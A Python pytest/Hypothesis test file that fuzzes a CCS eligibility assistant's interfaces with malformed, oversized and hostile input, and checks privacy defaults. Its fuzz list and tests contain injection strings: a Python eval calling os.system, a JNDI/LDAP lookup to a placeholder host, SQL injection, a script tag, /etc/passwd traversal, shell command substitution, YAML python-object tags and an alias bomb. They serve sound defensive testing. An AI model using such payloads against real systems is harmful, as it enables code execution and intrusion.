"""Bad input never crashes anything or loses anything (issue 6, part 2); nothing leaks (part 4).

- any text (empty, whitespace, emoji, control characters, right-to-left, a megabyte) gives a
  valid Answer or a clear QuestionError about its length, in a one-off question and in a
  conversation, whatever state the conversation is in;
- an over-long question gets a clear message in every interface (library, `ask`, `batch`, the
  chat shell, HTTP), with the right exit code;
- malformed batch lines and HTTP bodies give per-item errors and the rest of the work goes on;
- broken graph files give `ccs-assist check`'s file-and-line problems, never a traceback; YAML
  tags that would construct Python objects are refused, not executed;
- questions are not logged, the server binds to localhost by default.

The engine bugs these tests found are fixed; their tests stay as regressions (see below).
"""

from __future__ import annotations

import contextlib
import io
import json
import logging
import os
import re
import subprocess
import sys
import tempfile
import unicodedata
import warnings
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ccs_assist import Answer, Assistant, QuestionError
from ccs_assist.errors import GraphError
from ccs_assist.interfaces.batch import run_batch
from ccs_assist.interfaces.cli import main
from ccs_assist.interfaces.render import render
from ccs_assist.knowledge.graph import KnowledgeGraph

from .conftest import GRAPH, ROOT, write_graph
from .test_graph_validation import PROGRAM, SOURCES

MAX = 2000  # graph/intents.yaml settings.max_question_chars; checked against the assistant below
TRACEBACK = "Traceback (most recent call last)"
FAST = settings(deadline=None, max_examples=120, suppress_health_check=[HealthCheck.too_slow])
FEW = settings(deadline=None, max_examples=40, suppress_health_check=[HealthCheck.too_slow])


def cli(*args: str, stdin: bytes = b"", cwd: Path = ROOT) -> subprocess.CompletedProcess[bytes]:
    """`ccs-assist ARGS` in a fresh process; no start-up snapshot is read or written."""
    env = dict(os.environ, CCS_ASSIST_NO_CACHE="1")
    return subprocess.run(
        [sys.executable, "-m", "ccs_assist", *args],
        input=stdin,
        capture_output=True,
        timeout=60,
        cwd=cwd,
        env=env,
    )


@pytest.fixture(autouse=True)
def _no_snapshot(monkeypatch: pytest.MonkeyPatch) -> None:
    """Graphs made here must not replace the user's start-up snapshot of the real graph."""
    monkeypatch.setenv("CCS_ASSIST_NO_CACHE", "1")


def test_the_limit_here_is_the_assistants(assistant: Assistant) -> None:
    assert assistant.max_chars == MAX


# ---- strategies ------------------------------------------------------------------------------

ODD = [
    "",
    " ",
    "\t\n\r\x0b\x0c",
    "\x00",
    "\x1b[31mred\x1b[0m",
    "\x7f\x85\x9f",
    "\u200b\u200c\u200d\u2060",
    "\u202e\u202d\u2066\u2069",  # bidi overrides and isolates
    "\ufeff",
    "\u2028\u2029",
    "\ufffd\uffff",
    "مرحبا، هل يغطي CCS العلاج الطبيعي؟",
    "שלום, האם CCS מכסה",
    "¿Mi hijo califica para CCS?",
    "我的孩子有脑瘫",
    "👶🏽",
    "👨‍👩‍👧‍👦",
    "🇺🇸",
    "e\u0301\u0301\u0301\u0301",
    "ﬁ ﷺ Ⅻ İ ß ǅ ㎒",
    "%s%n%x{0}{!r}",
    "{__import__('os').system('touch HACKED')}",
    "${jndi:ldap://example.invalid/a}",
    "'; DROP TABLE answers; --",
    "<script>alert(1)</script>",
    "../../../etc/passwd",
    "!!python/object/apply:os.system ['touch HACKED']",
    "null",
    '{"question": "nested"}',
    "IEP",
    "CCS",
    "spina bifida",
    "cerebral palsy",
    "OT",
    "$40,000",
    "62k",
    "19 years old",
    "18 months",
    "1",
    "2",
    "option 2",
    "yes",
    "no",
    "not sure",
    "Fresno",
    "reset",
    "stop",
    "tell me more",
    "and at school?",
    "what about PT",
    "am I eligible for ccs",
    "check eligibility",
    "what is",
    "Is spina bifida covered?",
    "Does CCS OT replace OT on the IEP?",
    "How do I renew my driver's license?",
]

piece = st.one_of(
    st.sampled_from(ODD),
    st.text(max_size=40),
    st.text(st.characters(categories=["Cc", "Cf", "Zs", "Zl", "Zp", "Mn"]), max_size=12),
    st.text(st.characters(min_codepoint=0x0590, max_codepoint=0x08FF), max_size=25),  # RTL
    st.text(st.characters(min_codepoint=0x1F300, max_codepoint=0x1FAFF), max_size=10),  # emoji
    st.from_regex(r"\$?[0-9][0-9,.]{0,20}( ?k| thousand| years? old| months?)?", fullmatch=True),
    st.builds(lambda n, p: p + "9" * n, st.integers(1, 400), st.sampled_from(["$", "", "income "])),
)
# Text around the length limit, and far beyond it.
at_the_limit = st.builds(
    lambda char, n: char * n,
    st.sampled_from(["a", " ", "é", "👶", "\x00", "ccs ", "\u202e"]),
    st.integers(MAX - 3, MAX + 3),
)
questions = st.one_of(
    st.lists(piece, max_size=8).map("".join),
    st.lists(piece, max_size=4).map(" ".join),
    st.text(),
    at_the_limit,
)


# ---- any text: an Answer or a clear length error -------------------------------------------


def check_answer(answer: object, asked: str) -> None:
    assert isinstance(answer, Answer)
    assert Answer.model_validate_json(answer.model_dump_json()) == answer
    json.dumps(answer.model_dump(mode="json"))  # what `batch` writes
    assert answer.answer.strip(), "an answer always says something"
    assert 0.0 <= answer.confidence <= 1.0
    assert not any(unicodedata.category(ch).startswith("C") for ch in answer.question)
    for citation in answer.citations:
        assert citation.id and citation.title
    render(answer)  # what `ask` and the chat print


def ask_or_refuse(ask, text: str) -> Answer | None:
    if len(text) > MAX:
        with pytest.raises(QuestionError, match=rf"{len(text):,} characters .*under {MAX:,}"):
            ask(text)
        return None
    answer = ask(text)
    check_answer(answer, text)
    return answer


@FAST
@given(text=questions)
def test_any_text_gets_an_answer_or_a_length_error(assistant: Assistant, text: str) -> None:
    ask_or_refuse(assistant.ask, text)


@FEW
@given(turns=st.lists(questions, min_size=1, max_size=7))
def test_any_conversation_keeps_answering(assistant: Assistant, turns: list[str]) -> None:
    """Screener steps, clarifications, follow-ons and resets, driven by arbitrary text."""
    chat = assistant.conversation()
    for text in turns:
        answer = ask_or_refuse(chat.ask, text)
        if answer is not None:
            assert answer.session_id == chat.session_id


@pytest.mark.parametrize(
    "opening", ["am I eligible for ccs", "Does CCS OT replace OT on the IEP?", "my son has CP"]
)
@FEW
@given(turns=st.lists(questions, min_size=1, max_size=6))
def test_any_text_in_any_state(assistant: Assistant, opening: str, turns: list[str]) -> None:
    """Start in a known state (screening, after an answer, with memory), then anything."""
    chat = assistant.conversation()
    check_answer(chat.ask(opening), opening)
    for text in turns:
        ask_or_refuse(chat.ask, text)


@pytest.mark.parametrize(
    "text",
    [
        "x" * 1_000_000,
        " " * 1_000_000,
        "\x00" * 1_000_000,
        "👶" * 1_000_000,
        "\u202e" + "مرحبا " * 200_000,
        "Is spina bifida covered? " * 40_000,
        "a" * (MAX + 1),
    ],
    ids=["1MB-ascii", "1MB-spaces", "1MB-nul", "1M-emoji", "1MB-rtl", "1MB-questions", "limit+1"],
)
def test_a_megabyte_is_refused_clearly(assistant: Assistant, text: str) -> None:
    for ask in (assistant.ask, assistant.conversation().ask):
        with pytest.raises(QuestionError) as caught:
            ask(text)
        message = str(caught.value)
        assert f"{len(text):,} characters" in message and f"under {MAX:,}" in message


@pytest.mark.parametrize("text", ["a" * MAX, " " * MAX, "👶" * MAX, "\x00" * MAX])
def test_exactly_the_limit_is_answered(assistant: Assistant, text: str) -> None:
    check_answer(assistant.ask(text), text)


@pytest.mark.parametrize(
    ("value", "message"),
    [
        (None, "must be text, not NoneType"),
        (42, "must be text, not int"),
        (["Is CP covered?"], "must be text, not list"),
        ({"question": "x"}, "must be text, not dict"),
        (b"\xff\xfe\x00", "not UTF-8"),
    ],
)
def test_what_is_not_text_is_a_question_error(
    assistant: Assistant, value: object, message: str
) -> None:
    with pytest.raises(QuestionError, match=message):
        assistant.ask(value)


def test_utf8_bytes_are_text(assistant: Assistant) -> None:
    answer = assistant.ask(b"Is spina bifida covered?")
    assert answer.intent and "spina bifida" in answer.answer.lower()


def test_nothing_in_a_question_is_evaluated(assistant: Assistant, tmp_path: Path) -> None:
    marker = tmp_path / "HACKED"
    for template in (
        "{__import__('os').system('touch MARKER')}",
        "__import__('os').system('touch MARKER')",
        "!!python/object/apply:os.system ['touch MARKER']",
        "$(touch MARKER) `touch MARKER`",
        "{0.__class__.__mro__} %(x)s %s",
    ):
        text = template.replace("MARKER", str(marker))
        answer = assistant.ask(text)
        assert answer.question == " ".join(text.split())
    assert not marker.exists()


# ---- regressions: engine bugs these tests found (fixed in 8ec6da8) --------------------------
# - text.money_amounts: int(float("9" * 309)) is int(inf): OverflowError crashed ask, batch and
#   the chat, and was a 500 over HTTP;
# - batch.answer_line caught only JSONDecodeError: a deeply nested line (RecursionError) or an
#   integer over 4300 digits (ValueError) ended the whole batch;
# - loader: YAML aliases were expanded by validation, so a "billion laughs" file hung `check`.


@pytest.mark.parametrize(
    "text",
    ["$" + "9" * 400, "our income is " + "9" * 320 + "k", ",".join(["999"] * 150)],
    ids=["dollars", "thousands", "commas"],
)
def test_a_huge_dollar_amount_is_answered(assistant: Assistant, text: str) -> None:
    check_answer(assistant.ask(text), text)
    question = f"our income is {text}, are we over the limit?"
    check_answer(assistant.ask(question), question)


@pytest.mark.parametrize(
    "bad",
    ["[" * 100_000, '{"question": 1' + "1" * 5000 + "}"],
    ids=["nested-100k", "int-5000-digits"],
)
def test_batch_survives_json_the_parser_cannot_take(assistant: Assistant, bad: str) -> None:
    lines = f"What is an IEP?\n{bad}\nIs spina bifida covered?\n"
    out = io.StringIO()
    run_batch(assistant, io.StringIO(lines), out)
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert len(rows) == 3 and rows[1]["line"] == 2 and "error" in rows[1]
    assert "spina bifida" in rows[2]["answer"].lower()


def test_a_yaml_alias_bomb_is_refused_quickly(tmp_path: Path) -> None:
    levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
        levels.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    bomb = (
        "\n".join(levels) + "\n" + PROGRAM.replace("    summary:", "    aliases: *i\n    summary:")
    )
    graph = write_graph(tmp_path / "g", {"s.yaml": SOURCES, "p.yaml": bomb})
    try:
        done = subprocess.run(
            [sys.executable, "-m", "ccs_assist", "--graph", str(graph), "check"],
            capture_output=True,
            timeout=4,
            env=dict(os.environ, CCS_ASSIST_NO_CACHE="1"),
        )
    except subprocess.TimeoutExpired:
        pytest.fail("check was still running after 4 s")
    err = done.stderr.decode()
    assert done.returncode == 1 and TRACEBACK not in err
    assert re.search(r"p\.yaml:[12]: YAML anchors and aliases", err), err


# ---- every interface: a clear message for an over-long question ----------------------------

LONG = ("Is my child eligible? " * 100).strip()  # 2,199 characters
LONG_MESSAGE = f"the question is {len(LONG):,} characters long; please keep it under {MAX:,}"


def test_ask_in_process_says_how_long(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["ask", LONG]) == 1
    out, err = capsys.readouterr()
    assert out == ""
    assert err.strip() == f"ccs-assist: {LONG_MESSAGE} characters"


def test_ask_and_batch_as_processes() -> None:
    done = cli("ask", LONG)
    assert done.returncode == 1
    assert LONG_MESSAGE in done.stderr.decode() and TRACEBACK not in done.stderr.decode()
    assert done.stdout == b""

    good = "Is spina bifida covered?"
    feed = "\n".join([good, json.dumps({"question": LONG}), LONG, good]) + "\n"
    done = cli("batch", stdin=feed.encode())
    assert done.returncode == 0, done.stderr
    rows = [json.loads(line) for line in done.stdout.decode().splitlines()]
    assert [r.get("line") for r in rows] == [1, 2, 3, 4]
    assert all(LONG_MESSAGE in rows[i]["error"] for i in (1, 2))
    assert rows[0]["answer"] == rows[3]["answer"]
    assert done.stderr == b""


def test_chat_shell_says_how_long(assistant: Assistant) -> None:
    from ccs_assist.interfaces.repl import Shell

    reply = Shell(assistant, width=10_000).handle(LONG)
    assert LONG_MESSAGE in reply.text and not reply.quit


def test_http_says_how_long(assistant: Assistant) -> None:
    client = http_client(assistant)
    response = client.post("/v1/ask", json={"question": LONG})
    assert response.status_code == 422
    body = response.json()
    assert body["error"] == "invalid_request"
    assert "question" in body["detail"] and f"{MAX}" in body["detail"]
    assert LONG not in response.text


# ---- batch: malformed lines get their own error, the rest is answered in order -------------


def test_batch_malformed_lines_among_good_ones(assistant: Assistant) -> None:
    lines = [
        "Is spina bifida covered?",  # 1 plain text
        '{"question": "what is an IEP"}',  # 2
        "{oops",  # 3 not JSON
        "[1, 2, 3]",  # 4 not an object
        '"just a string"',  # 5 not an object
        '{"q": "no question key"}',  # 6
        '{"question": 42}',  # 7 not text
        '{"question": null}',  # 8
        '{"question": "hi", "session": ["x"]}',  # 9 bad session
        json.dumps({"question": "x" * (MAX + 1)}),  # 10 too long
        "",  # 11 blank: an error row, so rows pair with lines
        "   \t",  # 12 blank too
        '{"question": "does ccs cover kids with diabetes", "session": "a"}',  # 13
        '{"question": "tell me more", "session": "a"}',  # 14 same conversation
        "\x00\x01 weird \u202e text",  # 15 control characters in plain text
        '{"question": "\\ud800 a lone surrogate"}',  # 16
        '{"question": "What is the Whole Child Model?", "session": 7}',  # 17
        '{"question": "x", "extra": {"deep": [1, 2, {"x": null}]}}',  # 18 extra keys are fine
        "What is the Whole Child Model?\r",  # 19 CRLF
    ]
    out = io.StringIO()
    assert run_batch(assistant, io.StringIO("\n".join(lines) + "\n"), out) == 0
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    errors = {3, 4, 5, 6, 7, 8, 9, 10, 11, 12}  # blank lines get an error row too
    expected = list(range(1, len(lines) + 1))
    assert len(rows) == len(expected)
    for number, row in zip(expected, rows, strict=True):
        if number in errors:
            assert set(row) == {"error", "line"}, row
            assert row["line"] == number and row["error"].startswith(f"line {number}: ")
        else:
            assert "error" not in row, row
            Answer.model_validate(row)
    by_line = dict(zip(expected, rows, strict=True))
    assert "spina bifida" in by_line[1]["answer"].lower()
    assert by_line[13]["session_id"] == by_line[14]["session_id"] == "a"
    assert by_line[15]["question"] == "weird text"
    assert by_line[16]["question"] == "a lone surrogate"
    assert by_line[17]["session_id"] == "7"
    assert by_line[19]["answer"] == by_line[17]["answer"]
    assert "too long" not in by_line[10]["error"] and "characters" in by_line[10]["error"]


def test_batch_process_takes_any_bytes() -> None:
    feed = b"\n".join(
        [
            b"\xef\xbb\xbfIs spina bifida covered?",  # a byte-order mark
            b"\xff\xfe\xfa not UTF-8 at all",
            b"What is an IEP?\r",
            b'{"question": "\\u0000"}',
            b"\x00" * 50,
            b"x" * 3_000_000,  # one 3 MB line
            b"Is spina bifida covered?",
        ]
    )
    done = cli("batch", stdin=feed + b"\n")
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stderr == b""
    rows = [json.loads(line) for line in done.stdout.decode().splitlines()]
    assert len(rows) == 7
    assert "spina bifida" in rows[0]["answer"].lower()
    assert rows[5] == {
        "error": f"line 6: the question is 3,000,000 characters long; please keep it under "
        f"{MAX:,} characters",
        "line": 6,
    }
    assert rows[6]["answer"] == rows[0]["answer"]


@FEW
@given(
    lines=st.lists(
        st.one_of(
            questions,
            st.recursive(
                st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
                lambda inner: (
                    st.lists(inner, max_size=3)
                    | st.dictionaries(st.sampled_from(["question", "session", "x"]), inner)
                ),
                max_leaves=8,
            ).map(json.dumps),
            st.builds(
                lambda q, s: json.dumps({"question": q, "session": s}),
                questions,
                st.none() | st.integers() | st.text(max_size=8) | st.lists(st.integers()),
            ),
        ),
        max_size=8,
    )
)
def test_batch_gives_one_row_per_line_whatever_the_lines(
    assistant: Assistant, lines: list[str]
) -> None:
    lines = [" ".join(line.splitlines()) for line in lines]  # one input line each
    out = io.StringIO()
    assert run_batch(assistant, io.StringIO("".join(line + "\n" for line in lines)), out) == 0
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [row["line"] for row in rows] == list(range(1, len(lines) + 1))
    for row in rows:
        assert ("error" in row and isinstance(row["line"], int)) or Answer.model_validate(row)


# ---- HTTP: any body gets a JSON 4xx or an answer, never a 5xx -------------------------------


def http_client(assistant: Assistant):
    pytest.importorskip("fastapi")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from fastapi.testclient import TestClient
    from ccs_assist.interfaces.http.app import create_app

    return TestClient(create_app(assistant, max_sessions=50), raise_server_exceptions=False)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | questions,
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(["question", "session_id", "x"]), inner, max_size=3)
    ),
    max_leaves=10,
)
bodies = st.one_of(
    st.binary(max_size=300),
    json_values.map(lambda v: json.dumps(v).encode()),
    st.builds(
        lambda q, s: json.dumps({"question": q, "session_id": s}).encode(),
        questions,
        st.none() | st.text(max_size=140) | st.integers(),
    ),
    st.sampled_from(
        [
            b"",
            b"{",
            b"[" * 50_000,
            b'{"question": "' + b"a" * 70_000 + b'"}',
            b'{"question": "\\ud800"}',
            b'{"question": "ok", "question": 5}',
            b'\xef\xbb\xbf{"question": "bom"}',
            b'{"question": "x"}' * 3,
        ]
    ),
)
content_types = st.sampled_from(
    ["application/json", "text/plain", "application/x-www-form-urlencoded", "", "application/xml"]
)


@FEW
@given(body=bodies, media=content_types)
def test_http_any_body_is_a_json_answer_or_a_4xx(
    assistant: Assistant, body: bytes, media: str
) -> None:
    client = _HTTP.setdefault("client", http_client(assistant))
    headers = {"content-type": media} if media else {}
    response = client.post("/v1/ask", content=body, headers=headers)
    assert response.status_code < 500, response.text
    data = response.json()
    if response.status_code == 200:
        Answer.model_validate(data)
    else:
        assert 400 <= response.status_code < 500
        assert isinstance(data["error"], str) and isinstance(data["detail"], str)
        assert TRACEBACK not in response.text
    assert client.post("/v1/ask", json={"question": "what is an IEP"}).status_code == 200


_HTTP: dict[str, object] = {}


# ---- broken graph files: file-and-line problems, never a traceback -------------------------

# (SOURCES and PROGRAM: the same small valid graph the validator's own tests use.)

SERVICE = """kind: service
nodes:
  - id: serv
    label: A service
    summary: It is given.
    sources: [law_one]
    links:
      - {type: related_to, to: prog}
"""


def line_with(text: str, needle: str) -> int:
    for number, line in enumerate(text.splitlines(), start=1):
        if needle in line:
            return number
    raise AssertionError(f"{needle!r} not in the text")


BROKEN: dict[str, tuple[str, str, str]] = {
    # name: (broken service file, the text on the expected line, words in the message)
    "unclosed bracket": (SERVICE.replace("[law_one]", "[law_one"), "links:", "malformed YAML"),
    "tab indent": (SERVICE.replace("    label:", "\tlabel:"), "A service", "malformed YAML"),
    "bad indent": (SERVICE.replace("    summary:", "  summary:"), "summary:", "malformed YAML"),
    "label is a list": (SERVICE.replace("A service", "[a, b]"), "label:", "label"),
    "sources is text": (SERVICE.replace("[law_one]", "law_one"), "sources:", "sources"),
    "links is a mapping": (
        SERVICE.replace("    links:\n      - {", "    links: {"),
        "links:",
        "links",
    ),
    "unknown link type": (SERVICE.replace("related_to", "friends_with"), "friends_with", "type"),
    "dangling link": (SERVICE.replace("to: prog", "to: nowhere"), "nowhere", "does not exist"),
    "dangling source": (SERVICE.replace("[law_one]", "[no_such_law]"), "id: serv", "no_such_law"),
    "link kind rule": (
        SERVICE.replace("related_to, to: prog", "covered_by, to: prog"),
        "covered_by",
        "cannot go from a service",
    ),
    "bad id": (SERVICE.replace("id: serv", "id: Serv-1"), "Serv-1", "lower case"),
    "kind is a number": (SERVICE.replace("kind: service", "kind: 5"), "kind:", "kind"),
    "kind unknown": (SERVICE.replace("kind: service", "kind: gadget"), "kind:", "kind"),
    "nodes is text": ("kind: service\nnodes: lots\n", "nodes:", "nodes"),
    "node is text": ("kind: service\nnodes:\n  - just words\n", "nodes:", "nodes.0"),
    "top-level list": ("- kind: service\n", "kind", "must start with 'kind:'"),
    "uncertain is text": (
        SERVICE.replace("    summary:", "    uncertain: perhaps\n    summary:"),
        "uncertain:",
        "uncertain",
    ),
    "field of another kind": (
        SERVICE.replace("    summary:", "    params: {n: 1}\n    summary:"),
        "params:",
        "not used on a service",
    ),
    "duplicate id": (SERVICE.replace("id: serv", "id: prog"), "id: prog", "duplicate id"),
    "python object tag": (
        SERVICE.replace("A service", "!!python/object/apply:os.system ['touch HACKED']"),
        "python/object",
        "malformed YAML",
    ),
    "python name tag": (
        SERVICE.replace("A service", "!!python/name:os.system"),
        "python/name",
        "malformed YAML",
    ),
}


@pytest.mark.parametrize("case", list(BROKEN), ids=list(BROKEN))
def test_broken_graph_file_names_file_and_line(tmp_path: Path, case: str) -> None:
    text, needle, words = BROKEN[case]
    graph = write_graph(tmp_path / "g", {"s.yaml": SOURCES, "p.yaml": PROGRAM, "v.yaml": text})
    with pytest.raises(GraphError) as caught:
        KnowledgeGraph.load(graph)
    ours = [p for p in caught.value.problems if p.file.endswith("v.yaml")]
    assert ours, caught.value.problems
    line = line_with(text, needle)
    assert any(p.line == line and words in p.message for p in ours), (line, ours)
    assert not (Path.cwd() / "HACKED").exists() and not (tmp_path / "HACKED").exists()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "file is empty"),
        (b"   \n\n", "file is empty"),
        (b"kind: service\x00\x01\x02", "binary"),
        (b"kind: service\nnodes:\n  - id: \xff\xfe\n", "not UTF-8"),
    ],
    ids=["empty", "blank", "binary", "latin-1"],
)
def test_unreadable_graph_files_are_named(tmp_path: Path, content: bytes, message: str) -> None:
    graph = write_graph(tmp_path / "g", {"s.yaml": SOURCES, "p.yaml": PROGRAM})
    (graph / "v.yaml").write_bytes(content)
    with pytest.raises(GraphError) as caught:
        KnowledgeGraph.load(graph)
    assert any(p.file.endswith("v.yaml") and message in p.message for p in caught.value.problems)


def test_the_yaml_loader_is_a_safe_loader() -> None:
    from ccs_assist.knowledge import loader
    safe = tuple(c for c in (yaml.SafeLoader, getattr(yaml, "CSafeLoader", None)) if c)
    assert issubclass(loader._LineLoader, safe)
    assert not issubclass(loader._LineLoader, (yaml.UnsafeLoader, yaml.FullLoader))


def broken_copy(tmp_path: Path, name: str, text: str) -> Path:
    graph = tmp_path / "graph"
    graph.mkdir()
    for path in GRAPH.glob("*.yaml"):
        (graph / path.name).write_bytes(path.read_bytes())
    (graph / name).write_text(text, encoding="utf-8")
    return graph


def test_a_python_tag_in_intents_is_refused_not_run(tmp_path: Path) -> None:
    marker = tmp_path / "HACKED"
    text = (GRAPH / "intents.yaml").read_text(encoding="utf-8")
    text += f"\nboom: !!python/object/apply:os.system ['touch {marker}']\n"
    graph = broken_copy(tmp_path, "intents.yaml", text)
    with pytest.raises(GraphError) as caught:
        Assistant(graph)
    problem = caught.value.problems[0]
    assert problem.file.endswith("intents.yaml") and "malformed YAML" in problem.message
    assert problem.line == len(text.splitlines())
    assert not marker.exists()


@pytest.mark.parametrize("command", [["check"], ["ask", "Is CP covered?"], ["batch"]])
def test_cli_never_prints_a_traceback_for_a_broken_graph(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    text, needle, _ = BROKEN["python object tag"]
    graph = write_graph(tmp_path / "g", {"s.yaml": SOURCES, "p.yaml": PROGRAM, "v.yaml": text})
    with contextlib.redirect_stdout(io.StringIO()):
        assert main(["--graph", str(graph), *command]) == 1
    err = capsys.readouterr().err
    assert f"v.yaml:{line_with(text, needle)}: malformed YAML" in err
    assert TRACEBACK not in err


@pytest.mark.parametrize(
    "make",
    [
        lambda tmp: tmp / "missing",
        lambda tmp: write_graph(tmp / "empty", {}),
        lambda tmp: write_graph(tmp / "only-text", {"notes.txt": "hello"}),
        lambda tmp: write_graph(tmp, {"file.yaml": "kind: source\n"}) / "file.yaml",
        lambda tmp: write_graph(tmp / "g", {"s.yaml": SOURCES, "p.yaml": PROGRAM}),  # no intents
    ],
    ids=["missing", "empty", "no-yaml", "a-file", "no-intents"],
)
def test_cli_explains_an_unusable_graph_folder(tmp_path: Path, make) -> None:
    graph = make(tmp_path)
    done = cli("--graph", str(graph), "ask", "Is CP covered?", cwd=tmp_path)
    err = done.stderr.decode()
    assert done.returncode == 1, err
    assert err.startswith("ccs-assist: ") and TRACEBACK not in err
    assert done.stdout == b""


MUTATIONS = "\t:-[]{}&*!|>'\"%@`#,? \n"


@FEW
@given(
    edits=st.lists(
        st.tuples(
            st.sampled_from(["delete", "insert", "duplicate", "swap"]),
            st.integers(0, 10_000),
            st.sampled_from(list(MUTATIONS)),
        ),
        min_size=1,
        max_size=4,
    )
)
def test_a_mangled_graph_file_is_a_graph_error_or_loads(edits: list[tuple[str, int, str]]) -> None:
    text = SERVICE
    for action, where, char in edits:
        lines = text.splitlines(keepends=True)
        spot = where % max(1, len(text))
        row = where % max(1, len(lines))
        if action == "delete" and lines:
            del lines[row]
            text = "".join(lines)
        elif action == "insert":
            text = text[:spot] + char + text[spot:]
        elif action == "duplicate" and lines:
            lines.insert(row, lines[row])
            text = "".join(lines)
        elif action == "swap" and len(lines) > 1:
            lines[row], lines[row - 1] = lines[row - 1], lines[row]
            text = "".join(lines)
    with tempfile.TemporaryDirectory() as tmp:
        graph = write_graph(Path(tmp), {"s.yaml": SOURCES, "p.yaml": PROGRAM, "v.yaml": text})
        try:
            KnowledgeGraph.load(graph)
        except GraphError as error:
            assert error.problems
            for problem in error.problems:
                assert problem.file and problem.message
                assert problem.line >= 0


# ---- privacy and safety (issue 6, part 4) ---------------------------------------------------


def test_questions_are_not_logged_by_default(
    assistant: Assistant, caplog: pytest.LogCaptureFixture
) -> None:
    secret = "Zyxwvut my daughter Quorbelle has cerebral palsy"
    client = http_client(assistant)
    with caplog.at_level(logging.DEBUG):
        session = client.post("/v1/sessions").json()["session_id"]
        for body in (
            {"question": secret},
            {"question": secret, "session_id": session},
            {"question": secret, "session_id": "not-a-session"},
            {"question": secret * 200},
            {"question": 5, "session_id": secret},
        ):
            client.post("/v1/ask", json=body)
        with contextlib.redirect_stdout(io.StringIO()):
            main(["ask", secret])
            run_batch(assistant, io.StringIO(secret + "\n"), io.StringIO())
    assert "Quorbelle" not in caplog.text
    assert all("Quorbelle" not in str(r.args) for r in caplog.records)


def test_the_server_binds_to_localhost_by_default() -> None:
    from ccs_assist.interfaces.cli import _parser
    from ccs_assist.interfaces.http.serve_options import ServeOptions

    assert _parser().parse_args(["serve"]).host == "127.0.0.1"
    assert ServeOptions().host == "127.0.0.1"  # what server.run uses when not told
